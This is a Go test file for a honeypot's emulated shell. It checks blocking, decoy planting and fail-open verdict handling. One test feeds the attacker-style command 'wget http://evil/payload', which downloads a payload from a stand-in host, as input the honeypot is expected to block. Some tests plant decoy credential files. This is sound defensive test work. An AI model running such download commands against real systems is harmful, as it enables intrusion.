package shell

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/voslund/decoynet/pkg/blockset"
	"github.com/voslund/decoynet/pkg/telemetry"
	"github.com/voslund/decoynet/pkg/verdict"
	"github.com/voslund/decoynet/pkg/vfs"
)

type sessionHarness struct {
	client net.Conn
	fs     *vfs.MemoryFS
	queue  *telemetry.Queue
	blocks *blockset.Repository
	done   chan error
}

func startSession(t *testing.T, gate *verdict.Gate) *sessionHarness {
	t.Helper()

	server, client := net.Pipe()
	require.NoError(t, client.SetDeadline(time.Now().Add(5*time.Second)))

	fs := vfs.DefaultTree()
	queue := telemetry.NewQueue(128)
	blocks := blockset.NewRepository()
	sess := NewSession(server, NewInterpreter(fs), Config{
		SessionID: "sess-test",
		SourceIP:  "203.0.113.5",
		Gate:      gate,
		Emitter:   telemetry.NewEmitter("sensor-test", queue),
		Blocks:    blocks,
	})

	done := make(chan error, 1)
	go func() {
		done <- sess.Run(context.Background())
		server.Close()
	}()
	t.Cleanup(func() { client.Close() })

	return &sessionHarness{client: client, fs: fs, queue: queue, blocks: blocks, done: done}
}

func (h *sessionHarness) readUntil(t *testing.T, want string) string {
	t.Helper()
	var sb strings.Builder
	buf := make([]byte, 256)
	for !strings.Contains(sb.String(), want) {
		n, err := h.client.Read(buf)
		sb.Write(buf[:n])
		if err != nil {
			t.Fatalf("readUntil(%q): %v (got %q)", want, err, sb.String())
		}
	}
	return sb.String()
}

func (h *sessionHarness) sendLine(t *testing.T, line string) {
	t.Helper()
	if _, err := h.client.Write([]byte(line + "\r")); err != nil {
		t.Fatalf("sendLine(%q): %v", line, err)
	}
}

func (h *sessionHarness) wait(t *testing.T) error {
	t.Helper()
	select {
	case err := <-h.done:
		return err
	case <-time.After(5 * time.Second):
		t.Fatal("session did not end")
		return nil
	}
}

func (h *sessionHarness) events() []*telemetry.Event {
	var evs []*telemetry.Event
	for {
		select {
		case e := <-h.queue.C():
			evs = append(evs, e)
		default:
			return evs
		}
	}
}

func TestSessionBasicFlow(t *testing.T) {
	h := startSession(t, verdict.NewGate(""))

	greeting := h.readUntil(t, "root@server01:~# ")
	assert.Contains(t, greeting, WelcomeBanner)

	h.sendLine(t, "pwd")
	out := h.readUntil(t, "root@server01:~# ")
	assert.Contains(t, out, "/root")

	h.sendLine(t, "exit")
	assert.NoError(t, h.wait(t))

	evs := h.events()
	var commands []string
	for _, ev := range evs {
		assert.NotEqual(t, telemetry.KindVerdict, ev.Kind, "no verdicts without an oracle")
		if ev.Kind == telemetry.KindCommand {
			commands = append(commands, ev.Details[telemetry.DetailCommand])
			assert.Equal(t, "sess-test", ev.SessionID)
			assert.Equal(t, "203.0.113.5", ev.SourceIP)
		}
	}
	assert.Equal(t, []string{"pwd", "exit"}, commands)
}

func TestSessionLineEditing(t *testing.T) {
	h := startSession(t, verdict.NewGate(""))
	h.readUntil(t, "# ")

	// backspace removes the stray character before execution
	h.sendLine(t, "pwdX\x7f")
	out := h.readUntil(t, "root@server01:~# ")
	assert.Contains(t, out, "/root")

	h.sendLine(t, "exit")
	assert.NoError(t, h.wait(t))

	evs := h.events()
	require.NotEmpty(t, evs)
	assert.Equal(t, "pwd", evs[0].Details[telemetry.DetailCommand])
}

func TestSessionCRLF(t *testing.T) {
	h := startSession(t, verdict.NewGate(""))
	h.readUntil(t, "# ")

	_, err := h.client.Write([]byte("pwd\r\n"))
	require.NoError(t, err)
	assert.Contains(t, h.readUntil(t, "root@server01:~# "), "/root")

	_, err = h.client.Write([]byte("exit\r\n"))
	require.NoError(t, err)
	assert.NoError(t, h.wait(t))

	var commandEvents int
	for _, ev := range h.events() {
		if ev.Kind == telemetry.KindCommand {
			commandEvents++
		}
	}
	assert.Equal(t, 2, commandEvents, "CRLF must not double-execute")
}

func TestSessionBlockVerdict(t *testing.T) {
	oracle := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"classification": verdict.ClassificationBlock,
			"reason":         "download attempt",
			"risk_score":     95,
		})
	}))
	t.Cleanup(oracle.Close)

	h := startSession(t, verdict.NewGate(oracle.URL))
	h.readUntil(t, "# ")

	h.sendLine(t, "wget http://evil/payload")
	h.readUntil(t, "Connection terminated by security policy.")

	err := h.wait(t)
	assert.True(t, errors.Is(err, ErrSessionBlocked))
	assert.True(t, h.blocks.Contains("203.0.113.5"))

	kinds := map[telemetry.Kind]int{}
	var blockEv, cmdEv *telemetry.Event
	for _, ev := range h.events() {
		kinds[ev.Kind]++
		switch ev.Kind {
		case telemetry.KindBlock:
			blockEv = ev
		case telemetry.KindCommand:
			cmdEv = ev
		}
	}
	assert.Equal(t, 1, kinds[telemetry.KindVerdict])
	assert.Equal(t, 1, kinds[telemetry.KindBlock])
	assert.Equal(t, 1, kinds[telemetry.KindCommand])
	require.NotNil(t, blockEv)
	assert.Equal(t, "download attempt", blockEv.Details[telemetry.DetailReason])

	// The command is still recorded, classified but never executed.
	require.NotNil(t, cmdEv)
	assert.Equal(t, "wget http://evil/payload", cmdEv.Details[telemetry.DetailCommand])
	assert.Equal(t, verdict.ClassificationBlock, cmdEv.Details[telemetry.DetailClassification])
	assert.Contains(t, cmdEv.Details, telemetry.DetailLatencyMS)
	assert.NotContains(t, cmdEv.Details, telemetry.DetailOutput, "blocked command must not execute")
}

func TestSessionDeceive(t *testing.T) {
	oracle := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"classification": verdict.ClassificationDeceive,
			"confidence":     0.8,
			"decoy": map[string]string{
				"path":    "/root/credentials.txt",
				"content": "db_user:hunter2",
			},
		})
	}))
	t.Cleanup(oracle.Close)

	h := startSession(t, verdict.NewGate(oracle.URL))
	h.readUntil(t, "# ")

	// the decoy lands before the command executes, so this listing shows it
	h.sendLine(t, "ls")
	out := h.readUntil(t, "root@server01:~# ")
	assert.Contains(t, out, "credentials.txt")

	info, err := h.fs.Stat("/root/credentials.txt")
	require.NoError(t, err)
	assert.True(t, info.Decoy)

	h.sendLine(t, "exit")
	assert.NoError(t, h.wait(t))

	var verdictEv *telemetry.Event
	for _, ev := range h.events() {
		if ev.Kind == telemetry.KindVerdict && ev.Details[telemetry.DetailCommand] == "ls" {
			verdictEv = ev
		}
	}
	require.NotNil(t, verdictEv)
	assert.Equal(t, verdict.ClassificationDeceive, verdictEv.Details[telemetry.DetailClassification])
	assert.Equal(t, "/root/credentials.txt", verdictEv.Details[telemetry.DetailDecoyPath])
}

func TestSessionDeceiveWithoutPayloadPlantsFallback(t *testing.T) {
	oracle := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"classification": verdict.ClassificationDeceive,
			"confidence":     0.6,
		})
	}))
	t.Cleanup(oracle.Close)

	h := startSession(t, verdict.NewGate(oracle.URL))
	h.readUntil(t, "# ")

	h.sendLine(t, "ls")
	h.readUntil(t, "root@server01:~# ")
	h.sendLine(t, "exit")
	assert.NoError(t, h.wait(t))

	// A bare deception verdict still plants something: a fabricated
	// credential file in the directory the attacker was browsing.
	var verdictEv *telemetry.Event
	for _, ev := range h.events() {
		if ev.Kind == telemetry.KindVerdict && ev.Details[telemetry.DetailCommand] == "ls" {
			verdictEv = ev
		}
	}
	require.NotNil(t, verdictEv)
	assert.Equal(t, verdict.ClassificationDeceive, verdictEv.Details[telemetry.DetailClassification])

	path := verdictEv.Details[telemetry.DetailDecoyPath]
	require.NotEmpty(t, path)
	assert.True(t, strings.HasPrefix(path, "/root/"), "fallback lands in the cwd, got %q", path)
	info, err := h.fs.Stat(path)
	require.NoError(t, err)
	assert.True(t, info.Decoy)
}

func TestSessionFailOpenKeepsShellAlive(t *testing.T) {
	oracle := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(300 * time.Millisecond)
		json.NewEncoder(w).Encode(map[string]any{"classification": verdict.ClassificationBlock})
	}))
	t.Cleanup(oracle.Close)

	h := startSession(t, verdict.NewGate(oracle.URL, verdict.WithDeadline(50*time.Millisecond)))
	h.readUntil(t, "# ")

	h.sendLine(t, "pwd")
	out := h.readUntil(t, "root@server01:~# ")
	assert.Contains(t, out, "/root", "late verdict must not stop execution")

	h.sendLine(t, "exit")
	assert.NoError(t, h.wait(t))

	var verdictEv *telemetry.Event
	for _, ev := range h.events() {
		if ev.Kind == telemetry.KindVerdict {
			verdictEv = ev
		}
	}
	require.NotNil(t, verdictEv)
	assert.Equal(t, "true", verdictEv.Details[telemetry.DetailFailOpen])
	assert.Equal(t, verdict.ClassificationAllow, verdictEv.Details[telemetry.DetailClassification])
}

func TestSessionClientDisconnect(t *testing.T) {
	h := startSession(t, verdict.NewGate(""))
	h.readUntil(t, "# ")

	h.client.Close()
	assert.NoError(t, h.wait(t), "abrupt disconnect is a clean session end")
}
